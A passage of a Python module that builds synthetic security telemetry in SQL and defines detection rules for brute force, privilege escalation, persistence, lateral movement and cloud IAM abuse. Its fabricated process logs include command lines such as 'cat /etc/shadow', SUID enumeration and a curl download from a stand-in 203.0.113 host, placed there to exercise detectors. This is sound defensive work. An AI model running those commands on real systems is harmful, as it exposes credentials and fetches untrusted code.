"""Shared SQL fragments of the second-engine checks.

``EV`` is the bridge of ``sources/bridge.py`` written again in plain SQL; metadata keys carry an ``m_``
prefix and event time is whole microseconds in ``us``.
"""

from eventwarden.catalogue import TACTICS, TECHNIQUES

EV = """
b AS (
  SELECT event_id AS e, user_id AS u, ts, epoch_us(ts) AS us, event_type AS kind, value,
         CAST(json_extract_string(props, '$.k') AS INTEGER) AS k
  FROM events
), c AS (
  SELECT *, CASE WHEN kind = 'signup' AND k % 9 = 0 THEN 'privilege'
                 WHEN kind IN ('signup', 'error') THEN 'authentication'
                 WHEN kind = 'click' THEN 'discovery'
                 WHEN kind = 'view' AND k % 25 = 1 THEN 'account'
                 WHEN kind = 'view' AND k % 25 = 2 THEN 'service'
                 WHEN kind = 'view' THEN 'file'
                 WHEN k < 30 THEN 'cloud_audit' ELSE 'network' END AS event_type
  FROM b
), ev AS (
  SELECT e, u, k, ts, us, kind, value, event_type,
    'EVT-' || e AS event_id,
    CASE WHEN event_type IN ('authentication', 'account') OR (event_type = 'privilege' AND k % 2 = 0) THEN 'linux_auth'
         WHEN event_type IN ('privilege', 'service') THEN 'windows_security'
         WHEN event_type = 'discovery' THEN 'edr_process' WHEN event_type = 'file' THEN 'file_integrity'
         WHEN event_type = 'cloud_audit' THEN 'cloud_audit' ELSE 'network_flow' END AS source,
    CASE WHEN event_type <> 'cloud_audit' THEN 'HOST-' || (k % 20) END AS host,
    CASE WHEN e % 97 = 0 THEN NULL WHEN e % 11 = 0 THEN 'USER-' || u ELSE 'user-' || u END AS "user",
    CASE WHEN k < 70 THEN '10.20.' || (u % 8) || '.' || k ELSE '203.0.113.' || k END AS source_ip,
    CASE WHEN event_type = 'network' THEN '10.20.7.' || (k % 50) END AS destination_ip,
    CASE WHEN event_type = 'network' THEN [22, 443, 445, 3389][e % 4 + 1] END AS destination_port,
    CASE WHEN event_type = 'network' THEN CAST(FLOOR(value * 100000) AS BIGINT) END AS bytes_out,
    CASE WHEN event_type = 'discovery' THEN ['whoami', 'uname', 'netstat', 'find'][e % 4 + 1] END AS process,
    CASE WHEN event_type <> 'discovery' THEN NULL
         WHEN e % 4 = 3 AND k % 5 = 0 THEN 'find / -perm -4000 -type f'
         WHEN e % 4 = 0 AND k % 10 = 1 THEN 'cat /etc/shadow'
         WHEN e % 4 = 2 AND k % 8 = 2 THEN 'curl http://203.0.113.' || k || '/t.tgz'
         ELSE ['whoami', 'uname', 'netstat', 'find'][e % 4 + 1] || ' -a' END AS command_line,
    CASE WHEN event_type <> 'file' THEN NULL
         WHEN e % 10 = 0 AND k % 2 = 0 THEN '/etc/cron.d/job-' || k
         WHEN e % 10 = 0 THEN '/etc/systemd/system/unit-' || k || '.service'
         WHEN e % 10 = 3 THEN '/etc/shadow' ELSE '/srv/data/file-' || k END AS file_path,
    CASE WHEN event_type = 'file' AND e % 200 = 0 THEN repeat('c', 64) END AS file_hash,
    CASE WHEN event_type = 'cloud_audit' THEN 'acct-' || (u % 3) END AS cloud_account,
    CASE WHEN event_type = 'cloud_audit' THEN 'iam' END AS cloud_service,
    CASE WHEN event_type = 'cloud_audit' AND k < 10 THEN 'key/' || u END AS cloud_resource,
    CASE WHEN event_type = 'cloud_audit' THEN CASE WHEN u % 2 = 0 THEN 'us-east-1' ELSE 'eu-west-1' END END AS cloud_region,
    CASE event_type
      WHEN 'privilege' THEN CASE WHEN k % 2 = 1 THEN 'special_privileges_assigned' ELSE 'sudo' END
      WHEN 'authentication' THEN 'login' WHEN 'discovery' THEN 'exec' WHEN 'file' THEN 'modify'
      WHEN 'account' THEN ['account_created', 'group_member_added', 'password_changed'][e % 3 + 1]
      WHEN 'service' THEN CASE WHEN e % 2 = 0 THEN 'service_installed' ELSE 'service_started' END
      WHEN 'cloud_audit' THEN CASE WHEN k = 2 THEN 'AttachUserPolicy' WHEN k = 1 THEN 'StopLogging'
        WHEN k < 10 THEN 'CreateAccessKey'
        ELSE ['ListUsers', 'ListRoles', 'ListPolicies', 'GetCallerIdentity', 'DescribeInstances'][e % 5 + 1] END
      ELSE 'allow' END AS action,
    CASE WHEN kind = 'error' OR (kind = 'purchase' AND k % 7 = 0) THEN 'failure' ELSE 'success' END AS status,
    CASE WHEN event_type = 'discovery' THEN ['account', 'system', 'network', 'permission'][e % 4 + 1] END AS m_discovery_category,
    CASE WHEN event_type <> 'discovery' THEN NULL
         WHEN e % 4 = 3 AND k % 5 = 0 THEN 'suid_enumeration'
         WHEN e % 4 = 0 AND k % 10 = 1 THEN 'credential_file_access'
         WHEN e % 4 = 2 AND k % 8 = 2 THEN 'remote_download' END AS m_indicator,
    CASE WHEN event_type = 'privilege' THEN TRUE END AS m_elevated,
    CASE WHEN event_type = 'privilege' AND k % 2 = 1 THEN 4672 WHEN event_type = 'service' AND e % 2 = 0 THEN 7045 END AS m_windows_event_id,
    (event_type = 'privilege' AND k % 2 = 1 AND e % 3 = 0) AS m_debug_privilege,
    CASE WHEN event_type = 'account' AND e % 3 = 0 THEN e % 2 = 0 END AS m_uid_zero,
    CASE WHEN event_type = 'account' AND e % 3 = 1 THEN CASE WHEN e % 2 = 0 THEN 'sudo' ELSE 'developers' END END AS m_group,
    CASE WHEN event_type = 'account' AND e % 3 = 1 THEN e % 2 = 0 END AS m_privileged_group,
    CASE WHEN event_type = 'file' AND e % 10 = 0 THEN TRUE END AS m_persistence_path,
    CASE WHEN event_type = 'file' AND e % 10 = 0 THEN CASE WHEN k % 2 = 0 THEN 'cron' ELSE 'systemd_service' END END AS m_persistence_mechanism,
    CASE WHEN event_type = 'file' AND e % 10 = 3 THEN TRUE END AS m_sensitive_file,
    CASE WHEN event_type = 'file' AND e % 50 = 7 THEN TRUE END AS m_setuid,
    CASE WHEN event_type = 'authentication' THEN 'password' END AS m_auth_method,
    CASE WHEN event_type = 'authentication' THEN 'ssh'
         WHEN event_type = 'network' THEN ['ssh', 'https', 'smb', 'rdp'][e % 4 + 1] END AS m_service,
    CASE WHEN event_type = 'authentication' AND kind = 'error' THEN CASE WHEN e % 2 = 0 THEN 'bad_password' ELSE 'user_does_not_exist' END END AS m_failure_reason,
    CASE WHEN event_type = 'authentication' AND kind = 'error' THEN e % 2 = 1 END AS m_invalid_user,
    CASE WHEN event_type = 'network' THEN k < 70 END AS m_source_is_private,
    CASE WHEN event_type = 'network' AND e % 4 <> 1 AND k < 70 THEN TRUE END AS m_internal_lateral_candidate,
    CASE WHEN event_type <> 'cloud_audit' THEN NULL WHEN k = 2 THEN 'privilege_grant' WHEN k = 1 THEN 'defense_evasion'
         WHEN k < 10 THEN 'credential_creation' END AS m_iam_category,
    CASE WHEN event_type <> 'cloud_audit' THEN NULL WHEN k IN (1, 2) THEN 'critical' WHEN k < 10 THEN 'high' END AS m_iam_risk,
    CASE WHEN event_type = 'cloud_audit' AND k = 2 THEN CASE WHEN e % 2 = 0 THEN 'arn:aws:iam::aws:policy/AdministratorAccess' ELSE 'ReadOnlyAccess' END END AS m_policy,
    CASE WHEN event_type = 'cloud_audit' AND k = 2 THEN e % 2 = 0 END AS m_high_risk_policy,
    CASE WHEN event_type = 'cloud_audit' AND k >= 10 THEN TRUE END AS m_cloud_discovery,
    CASE WHEN event_type = 'cloud_audit' THEN k >= 10 END AS m_read_only,
    CASE WHEN event_type = 'cloud_audit' THEN e % 3 <> 0 END AS m_mfa,
    CASE WHEN event_type = 'cloud_audit' AND k % 7 = 0 THEN 'AccessDenied' END AS m_error_code,
    CASE WHEN e % 23 = 0 THEN 'malicious' WHEN e % 29 = 0 THEN 'ambiguous' ELSE 'benign' END AS label,
    CASE WHEN e % 23 = 0 THEN 'malicious' WHEN e % 29 = 0 THEN 'ambiguous' ELSE 'benign' END || '-' || (u % 5) AS label_scenario
  FROM c
)
"""


def with_ev(body: str, *ctes: str) -> str:
    """``body`` over the bridge, with further CTEs in between."""
    return "WITH RECURSIVE " + ",\n".join([EV.strip(), *[c.strip() for c in ctes]]) + "\n" + body.strip()


# ---- detections -----------------------------------------------------------------------------------
_FAILED = "event_type = 'authentication' AND status = 'failure' AND action = 'login'"
_LOGGED_IN = "event_type = 'authentication' AND status = 'success' AND action = 'login'"
_SESSION = "event_type = 'authentication' AND status = 'success' AND action IN ('login', 'session_open')"
_U = "lower(\"user\")"

# rule id, predicate, group parts
MATCH_SQL = [
    ("CREDENTIAL_FILE_ACCESS_001",
     "(event_type = 'file' AND m_sensitive_file) OR (event_type IN ('process', 'discovery') AND command_line LIKE '%/etc/shadow%')",
     ["lower(host)", _U]),
    ("PRIVESC_SUID_ENUM_001", "m_indicator = 'suid_enumeration'", ["event_id"]),
    ("PRIVESC_GROUP_CHANGE_001", "event_type = 'account' AND action = 'group_member_added' AND m_privileged_group", ["event_id"]),
    ("PRIVESC_WINDOWS_SPECIAL_PRIV_001", "event_type = 'privilege' AND m_windows_event_id = 4672 AND m_debug_privilege", ["event_id"]),
    ("PERSISTENCE_SCHEDULED_TASK_001", "event_type = 'file' AND action = 'modify' AND m_persistence_path",
     ["lower(host)", "m_persistence_mechanism"]),
    ("PERSISTENCE_BACKDOOR_ACCOUNT_001", "event_type = 'account' AND action = 'account_created' AND m_uid_zero", ["event_id"]),
    ("PERSISTENCE_SERVICE_INSTALL_001", "event_type = 'service' AND action = 'service_installed'", ["event_id"]),
    ("LATERAL_TOOL_TRANSFER_001", "event_type = 'discovery' AND m_indicator = 'remote_download'", ["event_id"]),
    ("CLOUD_IAM_PRIVESC_001", "m_iam_category = 'privilege_grant' AND m_high_risk_policy AND status = 'success'", ["event_id"]),
    ("CLOUD_LOG_TAMPERING_001", "m_iam_category = 'defense_evasion' AND status = 'success'", ["event_id"]),
]

# rule id, predicate, group parts, count, window seconds, distinct value, distinct count
THRESHOLD_SQL = [
    ("BRUTE_FORCE_001", _FAILED, ["source_ip"], 5, 300, "NULL", "NULL"),
    ("BRUTE_FORCE_002", _FAILED, ["source_ip"], 6, 600, _U, "4"),
    ("ACCOUNT_DISCOVERY_001", "event_type = 'discovery' AND m_discovery_category IS NOT NULL", [_U, "lower(host)"], 4, 180,
     "m_discovery_category", "3"),
    ("CLOUD_DISCOVERY_001", "m_cloud_discovery", [_U, "cloud_account"], 5, 300, "lower(action)", "4"),
    ("LATERAL_BREADTH_001", _SESSION, [_U], 4, 900, "lower(host)", "4"),
]

# rule id, group parts, first step, its count, second step, its gap, window
TWO_STEP_SQL = [
    ("BRUTE_FORCE_003", ["source_ip"], _FAILED, 4, _LOGGED_IN, 600, 900),
    ("PRIVESC_SUDO_CHAIN_001", [_U, "lower(host)"],
     "(event_type = 'discovery' AND m_discovery_category = 'permission') OR m_indicator = 'suid_enumeration' "
     "OR (event_type = 'discovery' AND process = 'sudo')", 1,
     "event_type = 'privilege' AND status = 'success' AND m_elevated", 420, 600),
    ("CLOUD_IAM_KEY_CHAIN_001", [_U, "cloud_account"], "m_cloud_discovery", 2,
     "m_iam_category IN ('credential_creation', 'credential_modification') AND status = 'success'", 1200, 1800),
]


def _parts(parts: list[str]) -> str:
    return "[" + ", ".join(parts) + "]"


def _key(parts: str = "parts") -> str:
    return f"array_to_string(list_transform({parts}, lambda x: coalesce('=' || x, '~')), '|')"


def match_ctes() -> str:
    selects = [
        f"SELECT '{r}' AS rule_id, {_parts(p)} AS parts, e, us, event_id FROM ev WHERE coalesce({w}, FALSE)"
        for r, w, p in MATCH_SQL
    ]
    return "mt AS (\n  " + "\n  UNION ALL ".join(selects) + "\n)"


def threshold_ctes(stretch: int, rules: list[str] | None = None) -> str:
    chosen = [t for t in THRESHOLD_SQL if rules is None or t[0] in rules]
    selects = [
        f"SELECT '{r}' AS rule_id, {_parts(p)} AS parts, e, us, event_id, {d} AS d, {n} AS n, "
        f"CAST({k} AS INTEGER) AS kd, CAST({w * stretch} AS BIGINT) * 1000000 AS w FROM ev WHERE coalesce({where}, FALSE)"
        for r, where, p, n, w, d, k in chosen
    ]
    return f"""tr0 AS (
  {chr(10).join(['', '  UNION ALL ']).join(selects)}
), tr AS (SELECT *, {_key()} AS g FROM tr0),
th AS (
  SELECT r.rule_id, r.g, r.us AS hit_us, min(x.us) AS start_us
  FROM tr r JOIN tr x ON x.rule_id = r.rule_id AND x.g = r.g AND x.us BETWEEN r.us - r.w AND r.us
  GROUP BY r.rule_id, r.g, r.us, r.event_id, r.n, r.kd
  HAVING count(DISTINCT x.event_id) >= r.n AND (r.kd IS NULL OR count(DISTINCT x.d) >= r.kd)
), tf AS (
  SELECT rule_id, g, arg_min(start_us, hit_us) AS start_us FROM th GROUP BY rule_id, g
), te AS (
  SELECT tr.* FROM tr JOIN tf USING (rule_id, g) WHERE tr.us BETWEEN tf.start_us AND tf.start_us + tr.w
)"""


def two_step_ctes(stretch: int, rules: list[str] | None = None) -> str:
    chosen = [t for t in TWO_STEP_SQL if rules is None or t[0] in rules]
    selects = [
        f"SELECT '{r}' AS rule_id, {_parts(p)} AS parts, e, us, event_id, coalesce({a}, FALSE) AS s0, coalesce({b}, FALSE) AS s1, "
        f"{m} AS m, CAST({gap * stretch} AS BIGINT) * 1000000 AS gap, CAST({w * stretch} AS BIGINT) * 1000000 AS w "
        f"FROM ev WHERE coalesce({a}, FALSE) OR coalesce({b}, FALSE)"
        for r, p, a, m, b, gap, w in chosen
    ]
    return f"""sr0 AS (
  {chr(10).join(['', '  UNION ALL ']).join(selects)}
), sr AS (SELECT *, {_key()} AS g FROM sr0),
sa AS (
  SELECT *, row_number() OVER (PARTITION BY rule_id, g ORDER BY us, event_id) AS rn FROM sr WHERE s0
), sc AS (
  SELECT a.rule_id, a.g, a.us AS a_us, a.event_id AS a_id, a.w, a.gap, z.us AS end_us, z.event_id AS end_id
  FROM sa a JOIN sa z ON z.rule_id = a.rule_id AND z.g = a.g AND z.rn = a.rn + a.m - 1 AND z.us - a.us <= a.w
), sn AS (
  SELECT sc.*, nx.us AS n_us
  FROM sc, LATERAL (
    SELECT x.us FROM sr x WHERE x.rule_id = sc.rule_id AND x.g = sc.g AND x.s1 AND (x.us, x.event_id) > (sc.end_us, sc.end_id)
    ORDER BY x.us, x.event_id LIMIT 1
  ) nx
  WHERE nx.us - sc.a_us <= sc.w AND nx.us - sc.end_us <= sc.gap
), sf AS (
  SELECT rule_id, g, arg_min(a_us, (a_us, a_id)) AS a_us, arg_min(n_us, (a_us, a_id)) AS n_us FROM sn GROUP BY rule_id, g
), se AS (
  SELECT sr.rule_id, sr.g, sr.parts, sr.e, sr.us, sr.event_id, CASE WHEN s0 AND us < n_us THEN 0 ELSE 1 END AS step
  FROM sr JOIN sf USING (rule_id, g)
  WHERE (s0 AND us >= a_us AND us < n_us) OR (s1 AND us = n_us)
)"""


def lateral_ctes(stretch: int) -> str:
    """Login, internal connection, login elsewhere: three steps over at least two hosts."""
    w, gap = 1200 * stretch * 1_000_000, 900 * stretch * 1_000_000
    return f"""lr AS (
  SELECT 'LATERAL_MOVEMENT_001' AS rule_id, [{_U}] AS parts, {_key('[' + _U + ']')} AS g, e, us, event_id, lower(host) AS h,
         coalesce({_SESSION}, FALSE) AS s0, coalesce(event_type = 'network' AND m_internal_lateral_candidate, FALSE) AS s1
  FROM ev
), la AS (
  SELECT a.g, a.us AS a_us, a.event_id AS a_id, n1.us AS b_us, n2.us AS c_us
  FROM lr a,
  LATERAL (SELECT x.us, x.event_id FROM lr x WHERE x.g = a.g AND x.s1 AND (x.us, x.event_id) > (a.us, a.event_id)
           ORDER BY x.us, x.event_id LIMIT 1) n1,
  LATERAL (SELECT x.us FROM lr x WHERE x.g = a.g AND x.s0 AND (x.us, x.event_id) > (n1.us, n1.event_id)
           ORDER BY x.us, x.event_id LIMIT 1) n2
  WHERE a.s0 AND n1.us - a.us <= {w} AND n1.us - a.us <= {gap} AND n2.us - a.us <= {w} AND n2.us - n1.us <= {gap}
), lx AS (
  SELECT la.g, la.a_us, la.a_id, lr.rule_id, lr.parts, lr.e, lr.us, lr.event_id, lr.h,
         CASE WHEN s0 AND lr.us < b_us THEN 0 WHEN s1 AND lr.us < c_us THEN 1 ELSE 2 END AS step
  FROM la JOIN lr ON lr.g = la.g
   AND ((s0 AND lr.us >= a_us AND lr.us < b_us) OR (s1 AND lr.us >= b_us AND lr.us < c_us) OR (s0 AND lr.us = c_us))
), lp AS (
  SELECT g, a_us, a_id FROM lx GROUP BY g, a_us, a_id HAVING count(DISTINCT h) >= 2
), lf AS (
  SELECT g, min((a_us, a_id)) AS first_anchor FROM lp GROUP BY g
), le AS (
  SELECT lx.rule_id, lx.g, lx.parts, lx.e, lx.us, lx.event_id, lx.step
  FROM lx JOIN lf ON lf.g = lx.g AND lf.first_anchor = (lx.a_us, lx.a_id)
)"""


INDICATORS = """
ind AS (
  SELECT 'IOC-' || i AS ioc_id, 'ip' AS ioc_type, '203.0.113.' || i AS ioc_key, 0.5 + (i - 90) / 20.0 AS ioc_confidence,
         CASE WHEN i % 2 = 0 THEN 'high' ELSE 'medium' END AS ioc_severity FROM range(90, 100) t(i)
  UNION ALL SELECT 'IOC-200', 'hash', repeat('c', 64), 0.95, 'critical'
), im AS (
  SELECT e, us, event_id, ioc_id, f.field AS matched_field, f.value AS matched_value, ioc_confidence, ioc_severity
  FROM (
    SELECT e, us, event_id, unnest([{'field': 'source_ip', 'kind': 'ip', 'value': source_ip},
                                    {'field': 'destination_ip', 'kind': 'ip', 'value': destination_ip},
                                    {'field': 'file_hash', 'kind': 'hash', 'value': file_hash}]) AS f FROM ev
  ) x JOIN ind ON ind.ioc_type = f.kind AND ind.ioc_key = lower(trim(f.value))
)"""

# What each account's baseline held before the hour of each scored event.
HISTORY = f"""
ob AS (
  SELECT lower("user") AS u_ref, us // 3600000000 AS bucket, 'login_hours' AS feature, CAST(hour(ts) AS VARCHAR) AS v
  FROM ev WHERE "user" IS NOT NULL AND event_type = 'authentication' AND status = 'success'
  UNION ALL SELECT lower("user"), us // 3600000000, 'source_ips', source_ip FROM ev
  WHERE "user" IS NOT NULL AND source_ip IS NOT NULL AND event_type = 'authentication' AND status = 'success'
  UNION ALL SELECT lower("user"), us // 3600000000, 'hosts', lower(host) FROM ev
  WHERE "user" IS NOT NULL AND host IS NOT NULL AND event_type = 'authentication' AND status = 'success'
  UNION ALL SELECT lower("user"), us // 3600000000, 'cloud_apis', lower(action) FROM ev
  WHERE "user" IS NOT NULL AND cloud_account IS NOT NULL AND action IS NOT NULL
  UNION ALL SELECT lower("user"), us // 3600000000, 'cloud_hours', CAST(hour(ts) AS VARCHAR) FROM ev
  WHERE "user" IS NOT NULL AND cloud_account IS NOT NULL AND action IS NOT NULL
  UNION ALL SELECT lower("user"), us // 3600000000, 'source_ips', source_ip FROM ev
  WHERE "user" IS NOT NULL AND source_ip IS NOT NULL AND cloud_account IS NOT NULL AND action IS NOT NULL
), sce AS (
  SELECT ev.*, {_U} AS u_ref, us // 3600000000 AS bucket FROM ev
  WHERE "user" IS NOT NULL AND ((event_type = 'authentication' AND status = 'success') OR cloud_account IS NOT NULL)
), hi AS (
  SELECT s.e,
    count(*) FILTER (feature = 'source_ips') AS ip_n, count(DISTINCT v) FILTER (feature = 'source_ips') AS ip_d,
    coalesce(bool_or(feature = 'source_ips' AND v LIKE '203.%'), FALSE) AS ip_ext,
    coalesce(bool_or(feature = 'source_ips' AND v = s.source_ip), FALSE) AS ip_seen,
    count(*) FILTER (feature = 'hosts') AS host_n, count(DISTINCT v) FILTER (feature = 'hosts') AS host_d,
    coalesce(bool_or(feature = 'hosts' AND v = lower(s.host)), FALSE) AS host_seen,
    count(*) FILTER (feature = 'cloud_apis') AS api_n, count(DISTINCT v) FILTER (feature = 'cloud_apis') AS api_d,
    coalesce(bool_or(feature = 'cloud_apis' AND v = lower(s.action)), FALSE) AS api_seen,
    count(*) FILTER (feature = 'login_hours') AS hour_n, count(DISTINCT v) FILTER (feature = 'login_hours') AS hour_d,
    min(TRY_CAST(v AS INTEGER)) FILTER (feature = 'login_hours') AS hour_lo, max(TRY_CAST(v AS INTEGER)) FILTER (feature = 'login_hours') AS hour_hi,
    count(*) FILTER (feature = 'cloud_hours') AS chour_n, count(DISTINCT v) FILTER (feature = 'cloud_hours') AS chour_d,
    min(TRY_CAST(v AS INTEGER)) FILTER (feature = 'cloud_hours') AS chour_lo, max(TRY_CAST(v AS INTEGER)) FILTER (feature = 'cloud_hours') AS chour_hi
  FROM sce s LEFT JOIN ob ON ob.u_ref = s.u_ref AND ob.bucket < s.bucket
  GROUP BY s.e
)"""

ANOMALY = """
al AS (
  SELECT s.e, s.us, s.event_id, s.u_ref, s.source_ip,
    ip_n >= 8 AND NOT ip_seen AS f_ip,
    ip_n >= 8 AND NOT ip_seen AND s.source_ip LIKE '203.%' AND ip_d > 0 AND NOT ip_ext AS f_ext,
    coalesce(hour_n >= 8 AND hour_d >= 4 AND hour_hi - hour_lo <= 18 AND hour(s.ts) NOT BETWEEN hour_lo AND hour_hi, FALSE) AS f_off,
    s.host IS NOT NULL AND host_n >= 8 AND NOT host_seen AS f_host
  FROM sce s JOIN hi USING (e)
  WHERE s.event_type = 'authentication' AND s.status = 'success' AND greatest(ip_n, hour_n, host_n) >= 8
), as1 AS (
  SELECT *, round(least(1.0, CASE WHEN f_ip THEN 0.30 ELSE 0 END + CASE WHEN f_ext THEN 0.25 ELSE 0 END
    + CASE WHEN f_off THEN 0.25 ELSE 0 END + CASE WHEN f_host THEN 0.20 ELSE 0 END), 3)::DOUBLE AS score FROM al
), ac AS (
  SELECT s.e, s.us, s.event_id, s.u_ref, s.source_ip,
    NOT api_seen AS f_api, coalesce(m_iam_risk IN ('high', 'critical'), FALSE) AS f_risk,
    coalesce(m_iam_risk IN ('high', 'critical') AND m_high_risk_policy, FALSE) AS f_policy,
    coalesce(chour_n >= 10 AND chour_d >= 4 AND chour_hi - chour_lo <= 18 AND hour(s.ts) NOT BETWEEN chour_lo AND chour_hi, FALSE) AS f_off,
    ip_d > 0 AND NOT ip_seen AS f_ip, coalesce(NOT m_mfa, FALSE) AS f_mfa
  FROM sce s JOIN hi USING (e) WHERE s.cloud_account IS NOT NULL AND api_n >= 10
), as2 AS (
  SELECT *, round(least(1.0, CASE WHEN f_api THEN 0.35 ELSE 0 END + CASE WHEN f_risk THEN 0.30 ELSE 0 END
    + CASE WHEN f_policy THEN 0.10 ELSE 0 END + CASE WHEN f_off THEN 0.20 ELSE 0 END + CASE WHEN f_ip THEN 0.20 ELSE 0 END
    + CASE WHEN f_mfa THEN 0.15 ELSE 0 END), 3)::DOUBLE AS score FROM ac
), an AS (
  SELECT 'VALID_ACCOUNT_ABUSE_001' AS rule_id, e, us, event_id, [u_ref, coalesce(source_ip, '')] AS parts, score,
         CASE WHEN score >= 0.70 THEN 'high' ELSE 'medium' END AS severity FROM as1 WHERE score >= 0.45
  UNION ALL
  SELECT 'CLOUD_IAM_ANOMALY_001', e, us, event_id, [u_ref, coalesce(source_ip, '')], score,
         CASE WHEN score >= 0.85 THEN 'critical' ELSE 'high' END FROM as2 WHERE score >= 0.50
)"""

# rule id, kind, severity, confidence, dedup seconds, count, window, techniques, tactics
_RULE_ROWS = [
    ("BRUTE_FORCE_001", "threshold", "high", 0.80, 900, 5, 300, "T1110 T1110.001", "TA0006"),
    ("BRUTE_FORCE_002", "threshold", "high", 0.85, 1800, 6, 600, "T1110 T1110.003", "TA0006"),
    ("BRUTE_FORCE_003", "sequence", "critical", 0.88, 3600, 0, 900, "T1110 T1078", "TA0006 TA0001"),
    ("ACCOUNT_DISCOVERY_001", "threshold", "medium", 0.70, 900, 4, 180, "T1087 T1087.001 T1082 T1033", "TA0007"),
    ("CLOUD_DISCOVERY_001", "threshold", "medium", 0.70, 1800, 5, 300, "T1087 T1087.004 T1526", "TA0007"),
    ("VALID_ACCOUNT_ABUSE_001", "anomaly", "medium", 0.60, 3600, 0, 0, "T1078", "TA0001 TA0003 TA0004 TA0005"),
    ("CREDENTIAL_FILE_ACCESS_001", "match", "high", 0.70, 600, 0, 0, "T1552 T1552.004", "TA0006"),
    ("IOC_MATCH_001", "ioc", "medium", 0.85, 1800, 0, 0, "T1071", "TA0011"),
    ("PRIVESC_SUID_ENUM_001", "match", "medium", 0.75, 900, 0, 0, "T1548 T1548.001", "TA0004 TA0007"),
    ("PRIVESC_SUDO_CHAIN_001", "sequence", "high", 0.82, 1800, 0, 600, "T1548 T1548.003 T1068", "TA0004"),
    ("PRIVESC_GROUP_CHANGE_001", "match", "high", 0.80, 600, 0, 0, "T1098 T1078", "TA0004 TA0003"),
    ("PRIVESC_WINDOWS_SPECIAL_PRIV_001", "match", "high", 0.72, 900, 0, 0, "T1134 T1078", "TA0004 TA0005"),
    ("PERSISTENCE_SCHEDULED_TASK_001", "match", "high", 0.78, 600, 0, 0, "T1053 T1053.003 T1543 T1543.002 T1098.004", "TA0003 TA0002"),
    ("PERSISTENCE_BACKDOOR_ACCOUNT_001", "match", "critical", 0.92, 300, 0, 0, "T1136 T1136.001", "TA0003"),
    ("PERSISTENCE_SERVICE_INSTALL_001", "match", "medium", 0.65, 900, 0, 0, "T1543 T1543.003", "TA0003 TA0004"),
    ("LATERAL_MOVEMENT_001", "sequence", "high", 0.84, 3600, 0, 1200, "T1021 T1021.004 T1078", "TA0008"),
    ("LATERAL_BREADTH_001", "threshold", "high", 0.76, 3600, 4, 900, "T1021 T1078", "TA0008"),
    ("LATERAL_TOOL_TRANSFER_001", "match", "medium", 0.62, 900, 0, 0, "T1105 T1570", "TA0011 TA0008"),
    ("CLOUD_IAM_PRIVESC_001", "match", "critical", 0.88, 600, 0, 0, "T1098 T1098.003 T1078.004", "TA0004 TA0003"),
    ("CLOUD_LOG_TAMPERING_001", "match", "critical", 0.90, 300, 0, 0, "T1562 T1562.008", "TA0005"),
    ("CLOUD_IAM_KEY_CHAIN_001", "sequence", "critical", 0.86, 1800, 0, 1800, "T1098 T1098.001 T1136.003", "TA0003 TA0004"),
    ("CLOUD_IAM_ANOMALY_001", "anomaly", "high", 0.70, 1800, 0, 0, "T1078 T1078.004", "TA0004 TA0005"),
]


def rule_ctes() -> str:
    values = ",\n    ".join(
        f"('{i}', '{kind}', '{sev}', {conf}, {dedup}, {need}, {win}, string_split('{tech}', ' '), string_split('{tac}', ' '))"
        for i, kind, sev, conf, dedup, need, win, tech, tac in _RULE_ROWS
    )
    return f"""rl AS (
  SELECT * FROM (VALUES
    {values}
  ) t(rule_id, kind, severity, confidence, dedup, need, win, techniques, tactics)
)"""


def detection_ctes(stretch: int) -> str:
    """``ed``: one row per (detection, event); ``dt``: one row per detection; over the whole pack."""
    return ",\n".join([
        match_ctes(), threshold_ctes(stretch), two_step_ctes(stretch), lateral_ctes(stretch), INDICATORS.strip(),
        HISTORY.strip(), ANOMALY.strip(), rule_ctes(), f"""ed AS (
  SELECT rule_id, rule_id || ':' || event_id AS detection_id, parts, e, us, event_id, 0 AS step,
         CAST(NULL AS VARCHAR) AS severity, CAST(NULL AS DOUBLE) AS confidence, CAST(NULL AS DOUBLE) AS score, CAST(NULL AS VARCHAR) AS ioc_id FROM mt
  UNION ALL SELECT rule_id, rule_id || ':' || g, parts, e, us, event_id, 0, NULL, NULL, NULL, NULL FROM te
  UNION ALL SELECT rule_id, rule_id || ':' || g, parts, e, us, event_id, step, NULL, NULL, NULL, NULL FROM se
  UNION ALL SELECT rule_id, rule_id || ':' || g, parts, e, us, event_id, step, NULL, NULL, NULL, NULL FROM le
  UNION ALL SELECT 'IOC_MATCH_001', 'IOC_MATCH_001:' || event_id || ':' || matched_field, [lower(matched_value)], e, us, event_id, 0,
         ioc_severity, round(least(0.99, ioc_confidence * 0.85 + 0.1), 3), NULL, ioc_id FROM im
  UNION ALL SELECT rule_id, rule_id || ':' || event_id, parts, e, us, event_id, 0, severity,
         round(least(0.95, 0.40 + score * 0.55), 3), score, NULL FROM an
), dg AS (
  SELECT detection_id, any_value(rule_id) AS rule_id, any_value(parts) AS parts, count(*) AS evidence_count, min(us) AS first_us,
         max(us) AS last_us, arg_max(e, (step, us, event_id)) AS trigger_e, max(severity) AS own_severity,
         max(confidence) AS own_confidence, max(score) AS score, max(ioc_id) AS ioc_id
  FROM ed GROUP BY detection_id
), dt AS (
  SELECT dg.detection_id, dg.rule_id, rl.kind, coalesce(own_severity, rl.severity) AS severity,
    CASE rl.kind
      WHEN 'threshold' THEN round(least(0.99, rl.confidence + greatest(0.0, least(0.15, 0.03 * (evidence_count - need)))), 3)
      WHEN 'sequence' THEN round(least(0.99, rl.confidence + 0.10 * (1.0 - least(1.0, greatest(1, (last_us - first_us) // 1000000) / (win * {stretch}.0)))), 3)
      ELSE coalesce(own_confidence, rl.confidence) END AS confidence,
    parts, array_to_string(list_transform(parts, lambda x: coalesce(x, '(none)')), '|') AS group_text,
    evidence_count, first_us, last_us, trigger_e, score, ioc_id, techniques, tactics,
    dg.rule_id || ':' || substr(sha256(dg.rule_id || '|' || array_to_string(list_transform(parts, lambda x: coalesce(x, 'None')), '|') || '|'
      || (last_us // (CAST(dedup AS BIGINT) * {stretch} * 1000000))), 1, 24) AS dedup_key
  FROM dg JOIN rl USING (rule_id)
)"""])


def alert_ctes(stretch: int) -> str:
    """``al0``: folded alerts; ``ae``: alert evidence; ``ax``: alert entities; ``sa0``: alerts with risk."""
    return detection_ctes(stretch) + """,
a0 AS (
  SELECT dedup_key, arg_max(detection_id, (last_us, detection_id)) AS detection_id, max(confidence) AS confidence, count(*) - 1 AS suppressed
  FROM dt GROUP BY dedup_key
), al0 AS (
  SELECT 'ALT-' || upper(substr(sha256(a0.dedup_key), 1, 12)) AS alert_id, a0.dedup_key, a0.detection_id, dt.rule_id, dt.kind, dt.severity,
         a0.confidence, dt.confidence AS first_confidence, dt.group_text, dt.last_us AS detected_us, dt.first_us, dt.last_us,
